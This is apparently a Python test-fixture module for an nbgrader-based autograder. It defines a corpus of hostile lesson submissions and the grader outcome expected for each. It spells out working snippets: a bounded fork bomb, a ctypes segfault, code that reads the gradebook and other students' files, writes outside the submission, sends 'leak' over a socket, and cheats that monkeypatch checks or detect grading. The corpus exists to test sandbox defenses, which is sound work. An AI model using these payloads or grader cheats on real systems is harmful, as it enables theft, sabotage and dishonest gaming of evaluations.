"""The hostile-submission corpus: breakage and cheats, each a real lesson-2 submission.

A case is a change to the released lesson folder (notebook + ``backprop_lib/``): code in place of
task stubs (planted as ``bug_planting`` plants every corpus's bugs), module-level code in ``layers.py``, a student cell after the set-up cell, or file
surgery. ``materialize`` writes it into ``submitted/<case>/<lesson>/`` of a course. Each case says
what it threatens, what must happen, and what the grader must report; tests/test_hostile.py checks
every case end to end and ``hostile.table.render_table`` turns the list into docs/threats.md.
"""

import json
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from backprop_course.autograder.bug_planting import plant_text

LESSON = "02_linear_layer"
TIMESTAMP = "2026-11-26 04:00:00.000000 UTC"

# What each task's stub becomes (the stub is the line raising NotImplementedError("Lesson 2, task K")).
CORRECT = {1: 'self.cache = x\nreturn x @ self.params["W"] + self.params["b"]',
           2: 'self.grads["W"] = self.cache.T @ grad_out\nself.grads["b"] = grad_out.sum(axis=0)',
           3: 'return grad_out @ self.params["W"].T'}
# Right shapes, wrong values: scores nothing unless the checks are defeated.
ZEROS = {1: 'self.cache = x\nreturn np.zeros((x.shape[0], self.params["W"].shape[1]), dtype=x.dtype)',
         2: 'self.grads["W"] = np.zeros_like(self.params["W"])\n'
            'self.grads["b"] = np.zeros_like(self.params["b"])',
         3: 'return np.zeros((grad_out.shape[0], self.params["W"].shape[0]), dtype=grad_out.dtype)'}


@dataclass
class Case:
    """One hostile submission.

    tasks: {task number: code replacing that task's stub in backprop_lib/layers.py}
    layers_top: module-level code appended to layers.py (runs at import)
    cell: a student code cell inserted after the notebook's set-up cell
    edit: edit(folder) for file and notebook surgery
    Code may use {course}, {package} (the installed autograder package), {victim} (another
    student's submitted folder) and {port} (a TCP listener of the test): filled in by materialize.

    outcomes: the outcomes the report may give it; score: "empty" (no more than the empty honest
    submission), "correct" (as much as the correct one) or "recorded" (any recorded score);
    flags: kinds of integrity flag it must get; clean: it must get none.
    reason: text its recorded reason must hold (what the grade did not see, or why).
    needs: protections (keys of ``sandbox.enforced()``) its outcomes rely on. Where one is not
    enforced, ``unprotected`` holds the outcomes it may get instead (its score is still recorded
    and the batch goes on); an empty ``unprotected`` means the case would really do its harm
    there (write into the course, read secrets into feedback), so it is not run.
    sandbox_bound: its outcome comes from the sandbox's limits and kills (or from ``needs``), so CI
    grades it again under every weaker isolation tier; the others end the same under every tier.
    """

    name: str
    kind: str
    threat: str
    happens: str
    tasks: dict = field(default_factory=dict)
    layers_top: str = ""
    cell: str = ""
    edit: object = None
    outcomes: tuple = ("graded",)
    score: str = "empty"
    flags: tuple = ()
    clean: bool = False
    needs: tuple = ()
    unprotected: tuple = ()
    sandbox_bound: bool = False
    shown_by: tuple = ()
    reason: str = ""


# ---- file surgery -------------------------------------------------------------------------------

def _notebook_path(folder):
    return folder / f"{LESSON}.ipynb"


def _edit_notebook(change):
    def edit(folder):
        path = _notebook_path(folder)
        nb = nbformat.read(path, as_version=4)
        change(nb)
        nbformat.write(nb, path)
    return edit


def _test_index(nb, grade_id):
    return next(i for i, cell in enumerate(nb.cells)
                if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _delete_test(nb):
    del nb.cells[_test_index(nb, "task1-check")]


def _edit_test(nb):
    nb.cells[_test_index(nb, "task1-check")].source = "pass  # the check, edited away"


def _duplicate_test(nb):
    index = _test_index(nb, "task2-check")
    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[index])))
    copy.id = "pasted-copy"
    nb.cells.insert(index + 1, copy)


def _reorder_tests(nb):
    first, last = _test_index(nb, "task1-check"), _test_index(nb, "task3-check")
    nb.cells[first], nb.cells[last] = nb.cells[last], nb.cells[first]


def _strip_metadata(nb):
    for cell in nb.cells:
        cell.metadata = {}


def _corrupt(folder):
    path = _notebook_path(folder)
    data = path.read_bytes()
    path.write_bytes(data[:len(data) // 2])


def _missing_notebook(folder):
    _notebook_path(folder).unlink()


def _rename_notebook(folder):
    _notebook_path(folder).rename(folder / "lesson2 (final).ipynb")


def _missing_library_file(folder):
    (folder / "backprop_lib" / "layers.py").unlink()


def _non_utf8_library(folder):
    # In a string: CPython 3.11 lets a latin-1 byte in a comment through, not in code.
    path = folder / "backprop_lib" / "layers.py"
    path.write_bytes(path.read_bytes() + b'\nNOTE = "caf\xe9 au lait"\n')


def _non_utf8_notebook(folder):
    path = _notebook_path(folder)
    path.write_bytes(path.read_bytes().replace(b"Lesson 2", b"Lesson \xff2", 1))


def _extra_files(folder):
    (folder / "notes.txt").write_text("my notes\n")
    (folder / "data").mkdir()
    (folder / "data" / "big.bin").write_bytes(b"\0" * 6_000_000)  # over the grader's 5 MB
    (folder / "backprop_lib" / "layers_old.py").write_text("OLD = True\n")
    shutil.copy(_notebook_path(folder), folder / f"{LESSON}-Copy1.ipynb")


def _links_to_secrets(folder):
    """Links to the gradebook (relative, up from submitted/<case>/<lesson>/backprop_lib/) and to
    the repository's reference solution (absolute): a file and a whole folder."""
    solutions = Path(__file__).resolve().parents[2] / "solutions" / "backprop_lib"
    (folder / "backprop_lib" / "notes.txt").symlink_to("../../../../gradebook.db")
    (folder / "reference.py").symlink_to(solutions / "layers.py")
    (folder / "reference_lib").symlink_to(solutions, target_is_directory=True)


SPARSE_FILE_BYTES = 4_900_000  # 100 of them: 490 MB to read, none on disk (sparse)
SPARSE_FILES = 100


def _many_big_files(folder):
    (folder / "data").mkdir()
    for number in range(SPARSE_FILES):
        with open(folder / "data" / f"part{number:03}.bin", "wb") as handle:
            handle.truncate(SPARSE_FILE_BYTES)


def _huge_sparse_file(folder):
    with open(folder / "data.bin", "wb") as handle:
        handle.truncate(2_000_000_000)


def _fake_machinery(folder):
    """A backprop_course/ of the student's own whose checks pass everything (the working copy comes
    first on the kernel's sys.path)."""
    fake = folder / "backprop_course"
    fake.mkdir()
    (fake / "__init__.py").write_text("")
    (fake / "checks.py").write_text(
        "import contextlib\n\n\nclass _Pass:\n    def __getattr__(self, name):\n"
        "        return lambda *a, **k: True\n\n\n@contextlib.contextmanager\n"
        "def task(label, *a, **k):\n    yield _Pass()\n")


# ---- the corpus -----------------------------------------------------------------------------------

FORK_BOMB = """import os, time
for _ in range(200):  # bounded: 200 sleeping children at most, all killed with the sandbox
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
self.cache = x
return x @ self.params["W"] + self.params["b"]"""

CASES = [
    # -- breakage ------------------------------------------------------------------------------
    Case("loop_in_library", "breakage", "infinite loop in a library function",
         "the per-cell timeout interrupts each check that calls it; the notebook goes on",
         tasks={1: "while True:\n    pass"}, clean=True,
         shown_by=("tests/test_sandbox_kernels.py::test_a_sandboxed_kernel_runs_cells_with_the_limits",),
         sandbox_bound=True),
    Case("loop_in_notebook", "breakage", "infinite loop in a notebook cell",
         "that cell is interrupted, the checks after it still run and score",
         tasks=CORRECT, cell="while True:\n    pass", score="correct", clean=True,
         sandbox_bound=True),
    Case("long_sleep", "breakage", "a long sleep",
         "interrupted by the per-cell timeout like a loop", tasks=CORRECT,
         cell="import time\ntime.sleep(100_000)", score="correct", clean=True, sandbox_bound=True),
    Case("uninterruptible_loop", "breakage", "a loop that ignores the interrupt (SIGINT ignored)",
         "the interrupt fails, nbclient gives up on the kernel (or the wall-clock limit kills the "
         "sandbox); the cells that never ran score 0",
         tasks=CORRECT, cell="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                             "while True:\n    pass",
         outcomes=("timeout", "kernel died"), score="recorded",
         shown_by=("tests/test_sandbox_kernels.py::test_a_sandboxed_kernel_dies_at_the_wall_clock_limit",),
         sandbox_bound=True),
    Case("os_exit_at_import", "breakage", "os._exit when the library is imported",
         "the kernel dies; the submission is recorded with 0 and the reason",
         layers_top="import os\nos._exit(3)", outcomes=("kernel died",), flags=("exit",),
         sandbox_bound=True),
    Case("sys_exit_at_import", "breakage", "sys.exit when the library is imported",
         "the import fails with SystemExit; the checks fail, the kernel lives",
         layers_top="import sys\nsys.exit(0)", flags=("exit",)),
    Case("segfault", "breakage", "a segfault through ctypes",
         "the kernel dies in the first check; later checks are marked not run",
         tasks={1: "import ctypes\nctypes.string_at(0)"}, outcomes=("kernel died",),
         flags=("native code",),
         shown_by=("tests/test_sandbox.py::test_segfault_is_reported_as_a_crash",),
         sandbox_bound=True),
    Case("memory_bomb", "breakage", "a memory bomb",
         "the address-space limit turns it into MemoryError in that check",
         tasks={1: "blocks = []\nwhile True:\n    blocks.append(np.ones(10_000_000))"}, clean=True,
         shown_by=("tests/test_sandbox.py::test_memory_limit_turns_a_memory_bomb_into_memory_error",),
         sandbox_bound=True),
    Case("fork_bomb", "breakage", "a (bounded) fork bomb",
         "the process limit refuses the forks; every child is killed with the sandbox",
         tasks={1: FORK_BOMB}, flags=("exit", "process"), score="recorded",
         # Without a process limit the 200 bounded forks may all succeed (the lesson then grades)
         # or exhaust the machine first: either way a recorded score, and the children die with
         # the sandbox.
         needs=("process limit",), unprotected=("graded", "kernel died", "timeout"),
         shown_by=("tests/test_sandbox.py::test_process_limit_bounds_a_fork_bomb_where_enforced",
                   "tests/test_sandbox.py::test_nothing_outlives_the_run"), sandbox_bound=True),
    Case("output_flood", "breakage", "output of hundreds of MB",
         "the notebook still grades; past 16 MB no long output is kept while it streams (the "
         "checks' short canary lines are; one message over 256 MiB is never received and "
         "stops the kernel), and what is stored is capped again (nbgrader's LimitOutput "
         "counts lines, not bytes)",
         tasks=CORRECT, cell="for _ in range(200):\n    print('x' * 1_000_000)",
         score="correct", clean=True,
         shown_by=("tests/test_sandbox.py::test_file_size_limit_stops_a_huge_file_and_an_output_flood",
                   "tests/test_sandbox_real_machine.py::test_output_is_capped_while_it_streams",
                   "tests/test_sandbox_real_machine.py::test_one_huge_output_message_is_never_received"),
         sandbox_bound=True),
    Case("syntax_error_notebook", "breakage", "a syntax error in a notebook cell",
         "that cell fails, the rest runs; recorded by the scan, not flagged", tasks=CORRECT,
         cell="def broken(:\n    pass", score="correct", clean=True),
    Case("syntax_error_library", "breakage", "a syntax error in the library",
         "the import fails, so every check fails; the grader compiles each file itself and the "
         "reason names the file and line (autograde table, grades.csv, review.csv); no flag",
         layers_top="def broken(:\n    pass", clean=True,
         reason="SyntaxError at backprop_lib/layers.py line ",
         shown_by=("tests/test_hostile.py::test_a_syntax_error_is_named_in_every_report",)),
    Case("corrupt_notebook", "breakage", "a corrupt notebook file",
         "not gradable: recorded with 0 and the reason", edit=_corrupt,
         outcomes=("not gradable",), clean=True),
    Case("missing_notebook", "breakage", "a missing notebook",
         "not gradable: recorded with 0 and the reason", edit=_missing_notebook,
         outcomes=("not gradable",), clean=True),
    Case("renamed_notebook", "breakage", "a renamed notebook",
         "treated as missing: recorded with 0 and the reason", edit=_rename_notebook,
         outcomes=("not gradable",), clean=True),
    Case("missing_library_file", "breakage", "a missing library file",
         "not gradable: recorded with 0 and the file named", edit=_missing_library_file,
         outcomes=("not gradable",), clean=True),
    Case("non_utf8_library", "breakage", "non-UTF-8 bytes in a library file",
         "Python refuses the file; every check fails; recorded by the scan, not flagged",
         tasks=CORRECT, edit=_non_utf8_library, clean=True),
    Case("non_utf8_notebook", "breakage", "non-UTF-8 bytes in the notebook",
         "not gradable: recorded with 0 and the reason", edit=_non_utf8_notebook,
         outcomes=("not gradable",), clean=True),
    Case("extra_files", "breakage", "extra files (a 6 MB file, an old module, a notebook copy)",
         "graded as usual; the oversized file is never shipped to the grading worker nor copied "
         "into autograded/, and the reason says so",
         tasks=CORRECT, edit=_extra_files, score="correct", clean=True,
         reason="data/big.bin is over 5 MB, not graded or copied"),
    Case("many_big_files", "breakage", "a hundred 4.9 MB files (490 MB)",
         "graded as usual; the grader reads and copies at most 25 MB of one submission, the reason "
         "names each file left out",
         tasks=CORRECT, edit=_many_big_files, score="correct", clean=True,
         reason="left out: the submission is over 25 MB in total",
         shown_by=("tests/test_hostile.py::test_what_is_copied_is_bounded_and_never_a_link",)),
    Case("huge_sparse_file", "breakage", "a 2 GB sparse file",
         "never read nor copied (autograded/ and feedback/ stay small); the reason says so",
         tasks=CORRECT, edit=_huge_sparse_file, score="correct", clean=True,
         reason="data.bin is over 5 MB, not graded or copied",
         shown_by=("tests/test_hostile.py::test_what_is_copied_is_bounded_and_never_a_link",)),
    Case("deleted_test_cell", "breakage", "a deleted test cell",
         "nbgrader restores it from the gradebook, so it still counts", tasks=CORRECT,
         edit=_edit_notebook(_delete_test), score="correct", clean=True),
    Case("edited_test_cell", "breakage", "an edited test cell",
         "nbgrader restores the original; the edit is flagged",
         edit=_edit_notebook(_edit_test), flags=("edited test cell",)),
    Case("duplicated_test_cell", "breakage", "a duplicated test cell",
         "graded without aborting the batch; the copy earns nothing extra", tasks=CORRECT,
         edit=_edit_notebook(_duplicate_test), score="correct", clean=True),
    Case("reordered_test_cells", "breakage", "reordered test cells",
         "graded in the submitted order; recorded", tasks=CORRECT,
         edit=_edit_notebook(_reorder_tests), score="recorded", clean=True),
    Case("stripped_metadata", "breakage", "stripped cell metadata",
         "the test cells come back from the gradebook, each in place of the cell with its id; "
         "graded as usual", tasks=CORRECT,
         edit=_edit_notebook(_strip_metadata), score="correct", clean=True),
    # -- cheats: every one also implements nothing real, so "empty" is the bar ------------------
    Case("patch_allclose", "cheat", "monkeypatching numpy (allclose, testing, max, abs)",
         "the grader judges in its own process, where nothing is patched: zeros score 0; flagged", tasks=ZEROS,
         cell="import numpy as np\nnp.allclose = lambda *a, **k: True\n"
              "np.testing.assert_allclose = lambda *a, **k: None\n"
              "np.max = lambda *a, **k: 0.0\nnp.abs = lambda x, *a, **k: x * 0",
         flags=("monkeypatch",)),
    Case("patch_ndarray", "cheat", "monkeypatching ndarray methods",
         "numpy refuses (built-in type), and the judge compares in the grader; flagged", tasks=ZEROS,
         cell="import numpy as np\ntry:\n    np.ndarray.__eq__ = lambda self, other: True\n"
              "except TypeError:\n    pass",
         flags=("monkeypatch",)),
    Case("patch_builtins", "cheat", "monkeypatching builtins",
         "the judge compares in the grader, where builtins are intact; flagged", tasks=ZEROS,
         cell="import builtins\nbuiltins.float = lambda x=0.0: 0.0\nbuiltins.all = lambda it: True",
         outcomes=("graded", "kernel died"), flags=("monkeypatch",)),
    Case("patch_test_helpers", "cheat", "monkeypatching the test helpers (checks, gradcheck)",
         "the helpers decide nothing in grading: the judge, in the grader, fails the zeros; flagged", tasks=ZEROS,
         cell="from backprop_course import checks, gradcheck\n"
              "checks.rel_error = gradcheck.rel_error = lambda *a, **k: 0.0",
         flags=("monkeypatch",)),
    Case("links_to_secrets", "cheat",
         "symbolic links to the gradebook and the reference solution (a file and a folder)",
         "never followed nor copied (grading, autograded/, feedback/); each link flagged",
         tasks=ZEROS, edit=_links_to_secrets, flags=("symlink",),
         shown_by=("tests/test_hostile.py::test_what_is_copied_is_bounded_and_never_a_link",
                   "tests/test_grading_inputs.py::test_the_zip_extractor_bounds_depth_size_and_count_and_makes_no_link")),
    Case("fake_machinery", "cheat", "shipping a backprop_course/ whose checks pass everything",
         "the grading kernel imports the installed machinery only, and the judge decides; flagged", tasks=ZEROS,
         edit=_fake_machinery, flags=("shadowing",)),
    Case("input_transformer", "cheat", "an IPython input transformer that skips later cells",
         "the graded cases never run, so their records are missing and the judge fails them; flagged", tasks=ZEROS,
         cell="get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
         flags=("ipython hook",)),
    Case("custom_exc", "cheat", "set_custom_exc swallowing the checks' errors",
         "the judge ignores the kernel's errors and fails the zeros from their records; flagged", tasks=ZEROS,
         cell="get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
         flags=("ipython hook",)),
    Case("always_equal", "cheat", "an object whose __eq__ is always true",
         "the record holds no number for it, so the judge fails it; flagged",
         tasks={1: "class Anything:\n    def __eq__(self, other):\n        return True\n"
                   "self.cache = x\nreturn Anything()"},
         flags=("always-equal",)),
    Case("read_secrets", "cheat", "reading the gradebook, source/ and other students' work",
         "the sandbox does not mount them: nothing to read; flagged",
         cell="import glob\nfound = []\nfor pattern in ('{course}/gradebook.db', '{course}/source/*/*.ipynb',"
              " '{victim}/backprop_lib/*.py'):\n    for path in glob.glob(pattern):\n"
              "        found.append(open(path, 'rb').read())\nprint('stolen', len(found), found)",
         flags=("secret path",), needs=("filesystem isolation",),
         shown_by=("tests/test_sandbox.py::test_course_secrets_are_invisible_only_under_bwrap",)),
    Case("import_reference", "cheat", "importing the reference solution by path",
         "the path does not exist in the sandbox; the stubs stay stubs; flagged",
         layers_top="import importlib.util\ntry:\n    _spec = importlib.util.spec_from_file_location("
                    "'ref', '{course}/source/02_linear_layer/backprop_lib/layers.py')\n"
                    "    _ref = importlib.util.module_from_spec(_spec)\n"
                    "    _spec.loader.exec_module(_ref)\n"
                    "except Exception:\n    _ref = None",
         flags=("grader import",), needs=("filesystem isolation",)),
    Case("write_outside", "cheat",
         "writing outside the submission (another student, gradebook.db, source/, the autograder)",
         "nothing outside the working copy is mounted: every write fails; flagged",
         cell="targets = ['{victim}/backprop_lib/layers.py', '{course}/gradebook.db',\n"
              "           '{course}/source/02_linear_layer/HACKED', '{package}/HACKED']\n"
              "for target in targets:\n    try:\n        with open(target, 'a') as f:\n"
              "            f.write('hacked')\n    except OSError:\n        pass",
         flags=("secret path",), needs=("filesystem isolation",)),
    Case("network", "cheat", "network access (sending answers out or fetching them)",
         "a fresh network namespace: the connection fails; flagged. Without one it connects: the "
         "documented gap, asserted",
         cell="import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3)"
              ".sendall(b'leak')\nexcept OSError:\n    pass",
         flags=("network",), needs=("network isolation",), unprotected=("graded",),
         shown_by=("tests/test_sandbox.py::test_network_is_cut_off_where_a_namespace_exists",)),
    Case("detect_grading", "cheat", "detecting the grading environment to behave differently",
         "the variables it looks for are not passed in; a patch decides nothing (the judge does); flagged",
         tasks=ZEROS,
         layers_top="import os\nif os.environ.get('NBGRADER_EXECUTION') or "
                    "not os.getcwd().startswith('/home/'):\n"
                    "    from . import checks as _c\n    _c.rel_error = lambda *a, **k: 0.0",
         flags=("environment", "monkeypatch")),
    Case("hardcoded_outputs", "cheat", "hard-coding the outputs of the visible checks",
         "the judge's seeded cases use other inputs and fail; flagged",
         tasks={1: "self.cache = x\nif x.shape == (2, 3):\n"
                   "    return np.array([[-3.5, -4.5], [5.5, 7.5]])\n"
                   "return np.array([[-3.5, -4.5]])"},
         flags=("hard-coded",)),
]

BASELINES = {"empty": Case("empty", "baseline", "", ""),
             "correct": Case("correct", "baseline", "", "", tasks=CORRECT)}


def _indent(code, indent):
    return "".join(indent + line + "\n" for line in code.splitlines())


def _fill(code, places):
    for key, value in places.items():
        code = code.replace("{" + key + "}", str(value))
    return code


def _task_changes(case, text, places):
    """The case's task code as planted bugs (``bug_planting``): each task's stub line replaced by the
    code at the stub's indentation."""
    changes = []
    for number, code in case.tasks.items():
        stub = f'raise NotImplementedError("Lesson 2, task {number}:'
        line = next(line for line in text.splitlines(keepends=True) if stub in line)
        changes.append((line, _indent(_fill(code, places), line[:len(line) - len(line.lstrip())])))
    return changes


def materialize(case, release, course, places):
    """Write ``case`` as course/submitted/<case.name>/<LESSON>/ from the release folder."""
    folder = Path(course) / "submitted" / case.name / LESSON
    if folder.exists():
        shutil.rmtree(folder)
    shutil.copytree(release, folder)
    (folder / "timestamp.txt").write_text(TIMESTAMP)
    layers = folder / "backprop_lib" / "layers.py"
    text = plant_text(layers.read_text(), _task_changes(case, layers.read_text(), places), str(layers))
    if case.layers_top:
        text += "\n\n" + _fill(case.layers_top, places) + "\n"
    layers.write_text(text)
    if case.cell:
        path = _notebook_path(folder)
        nb = nbformat.read(path, as_version=4)
        setup = next(i for i, cell in enumerate(nb.cells) if cell.cell_type == "code")
        cell = nbformat.v4.new_code_cell(_fill(case.cell, places))
        cell.id = "student-cell"
        nb.cells.insert(setup + 1, cell)
        nbformat.write(nb, path)
    if case.edit is not None:
        case.edit(folder)
    return folder
